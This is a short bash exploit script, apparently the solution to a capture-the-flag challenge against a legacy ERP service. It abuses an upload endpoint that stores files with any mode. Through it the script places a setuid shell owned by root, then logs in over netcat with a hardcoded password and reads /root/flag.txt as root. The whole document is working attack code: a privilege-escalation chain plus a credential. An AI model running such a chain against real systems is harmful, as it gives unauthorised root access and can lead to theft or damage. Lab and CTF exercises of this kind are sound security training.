#!/bin/bash
# The ERP stores any file with any mode. A program with the setuid bit runs with its owner's rights, and its owner is the ERP's root.
set -euo pipefail

curl --silent --show-error --max-time 10 --data-binary @/usr/local/lib/helpers/suidsh 'http://dockerhost:8080/cgi-bin/upload?name=suidsh&mode=4755'
printf '%s\n' 'Kontor-1997' '/srv/legacy/suidsh cat /root/flag.txt' | nc -N -w 5 dockerhost 2222
